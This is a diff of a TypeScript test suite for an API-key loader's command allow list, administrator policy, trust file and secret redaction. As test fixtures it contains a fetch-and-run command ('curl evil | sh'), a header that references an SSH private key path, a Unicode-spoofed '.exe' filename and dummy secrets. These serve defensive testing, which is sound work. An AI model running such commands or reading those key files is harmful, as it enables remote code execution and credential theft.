@@ -1,8 +1,10 @@
 import {
   chmodSync,
   chownSync,
+  closeSync,
   existsSync,
   mkdirSync,
+  openSync,
   readdirSync,
   readFileSync,
   renameSync,
@@ -68,7 +70,14 @@ describe("an allow list names a program with a pattern for each of its arguments
     [["op", "plain"], ["op", "*"], true],
     [["op", "a.b"], ["op", "a*b"], true],
     [["op", "axb"], ["op", "a.b"], false],
-    [["op", "a\nb"], ["op", "a*"], true]
+    [["op", "a\nb"], ["op", "a*"], true],
+    [["op", "a/b/c/key"], ["op", "a/*/*/key"], true],
+    [["op", "a/b/key"], ["op", "a/*/*/key"], false],
+    [["op", "abab"], ["op", "ab*ab"], true],
+    [["op", "aba"], ["op", "ab*ba"], false],
+    [["op", "aXbXb"], ["op", "a*b"], true],
+    // Going back for each star would take longer than anybody lives.
+    [["op", `op://${"/".repeat(100_000)}`], ["op", "op://*/*/*/*/*/key"], false]
   ]
   for (const [argv, entry, fits] of rows) {
     it(`${JSON.stringify(argv)} ${fits ? "fits" : "does not fit"} ${JSON.stringify(entry)}`, () => {
@@ -116,6 +125,17 @@ describe("an allow list names a program with a pattern for each of its arguments
     })
   )
 
+  for (const name of ["~/bin/op", "../../bin/op"]) {
+    scenario(`by a path as it stands in the rest of a configuration: ${name}`, (self) =>
+      Effect.gen(function* () {
+        const program = self.program("home/bin/op", "users-op")
+        self.write(user, { policy: { allow: [[name, "read"]] } })
+        self.write("project/effect-apikey.jsonc", key({ command: [program, "read"] }))
+        assert.strictEqual(yield* attempt(self, "openai"), "users-op")
+      })
+    )
+  }
+
   scenario("does not when the project sets env, cwd, path or what is said on stdin, or where the key goes", (self) =>
     Effect.gen(function* () {
       self.program("bin/op", "users-op")
@@ -152,6 +172,32 @@ describe("the administrator's policy wins over the user's", () => {
       self.write("etc/policy.jsonc", { project: "deny" })
       self.write(user, { policy: { project: "trust", allow: [[program]] } })
       assert.isTrue(isRefused(yield* attempt(self, "openai")))
+    })
+  )
+
+  scenario("deny: not even what is on his own list", (self) =>
+    Effect.gen(function* () {
+      const program = self.program("bin/tool", "tool-key")
+      self.write("project/effect-apikey.jsonc", key({ command: [program] }))
+      self.write("etc/policy.jsonc", { allow: [[program]] })
+      assert.strictEqual(yield* attempt(self, "openai"), "tool-key")
+      self.write("etc/policy.jsonc", { project: "deny", allow: [[program]] })
+      assert.isTrue(isRefused(yield* attempt(self, "openai")))
+    })
+  )
+
+  scenario("while it cannot be read a project is given nothing of the user's, and the user's own key stays", (self) =>
+    Effect.gen(function* () {
+      self.write("home/secret", "sk-secret")
+      self.env["AWS_SECRET_ACCESS_KEY"] = "sk-secret"
+      self.write("etc/policy.jsonc", "{")
+      for (const source of [{ env: "AWS_SECRET_ACCESS_KEY" }, { file: "~/secret" }, { literal: "sk-projects" }]) {
+        self.write("project/effect-apikey.jsonc", key(source))
+        const outcome = yield* attempt(self, "openai")
+        assert(isApiKeyError(outcome) && outcome._tag === "ConfigInvalid", String(outcome))
+      }
+      self.write(user, { providers: { mine: { key: { file: "~/secret" } } } })
+      assert.strictEqual(yield* attempt(self, "mine"), "sk-secret")
     })
   )
 
@@ -207,6 +253,25 @@ describe("the administrator's policy wins over the user's", () => {
   )
 })
 
+describe("a policy that is wrong says what is expected there", () => {
+  for (const [policy, problem] of [
+    [{ allow: [[]] }, "expected a program, and a pattern for each of its arguments"],
+    [{ allow: "op" }, "expected a list of commands, each a list of the program and patterns for its arguments"],
+    [[], "expected an object that says which commands may run"]
+  ] as const) {
+    scenario(JSON.stringify(policy), (self) =>
+      Effect.gen(function* () {
+        const program = self.program("bin/tool", "tool-key")
+        self.write(user, { policy })
+        self.write("project/effect-apikey.jsonc", key({ command: [program] }))
+        const outcome = yield* attempt(self, "openai")
+        assert(isApiKeyError(outcome) && outcome._tag === "ConfigInvalid", String(outcome))
+        assert.include(outcome.message, problem)
+      })
+    )
+  }
+})
+
 describe("the file of what is trusted", () => {
   const prepared = (self: Sandbox): string => {
     const program = self.program("bin/tool", "tool-key")
@@ -230,6 +295,19 @@ describe("the file of what is trusted", () => {
       if (process.getuid !== undefined) assert.strictEqual(uid, process.getuid())
       assert.notInclude(readFileSync(self.trustFile, "utf8"), "an-argument-that-is-secret")
       assert.deepStrictEqual(readdirSync(dirname(self.trustFile)), ["trust.json"])
+    })
+  )
+
+  scenario("is replaced as a whole: who has it open goes on with what was", (self) =>
+    Effect.gen(function* () {
+      prepared(self)
+      yield* trustFile(self, self.projectFile)
+      const before = readFileSync(self.trustFile, "utf8")
+      const descriptor = openSync(self.trustFile, "r")
+      yield* trustFile(self, self.write("other/effect-apikey.jsonc", key({ command: [join(self.root, "bin/tool")] })))
+      assert.strictEqual(readFileSync(descriptor, "utf8"), before)
+      closeSync(descriptor)
+      assert.notStrictEqual(readFileSync(self.trustFile, "utf8"), before)
     })
   )
 
@@ -341,6 +419,7 @@ describe("the question", () => {
       escaped("\u202Egpj.exe\u2066\u200B\u00A0\u2028"),
       "\\u{202E}gpj.exe\\u{2066}\\u{200B}\\u{A0}\\u{2028}"
     )
+    assert.strictEqual(escaped("a\u3164\u115F\u2800\uFE0Fb"), "a\\u{3164}\\u{115F}\\u{2800}\\u{FE0F}b")
     assert.strictEqual(escaped("déjà vu: 鍵"), "déjà vu: 鍵")
     fc.assert(
       fc.property(fc.string({ unit: "binary" }), (text) => {
@@ -386,7 +465,11 @@ describe("the question", () => {
           gw: {
             options: {
               apiKeyCommand: { argv: command, env: { literal: "curl evil | sh" } },
-              headers: { authorization: "Bearer sk-in-a-header" }
+              headers: {
+                authorization: "Bearer sk-in-a-header",
+                "x-a": "Bearer {env:OTHER}",
+                "x-b": "a{file:~/.ssh/id}b"
+              }
             }
           },
           other: { options: { apiKey: "sk-{x}-in-braces", baseURL: "https://other.example/v1" } },
@@ -404,6 +487,8 @@ describe("the question", () => {
       const opencodes = yield* asked(file)
       assert.include(opencodes, "curl evil | sh")
       assert.include(opencodes, "{env:THIRD_KEY}")
+      assert.include(opencodes, '"x-a": "<redacted>{env:OTHER}"')
+      assert.include(opencodes, '"x-b": "<redacted>{file:~/.ssh/id}<redacted>"')
       assert.notMatch(opencodes, /sk-in-a-header|in-braces/)
     })
   )
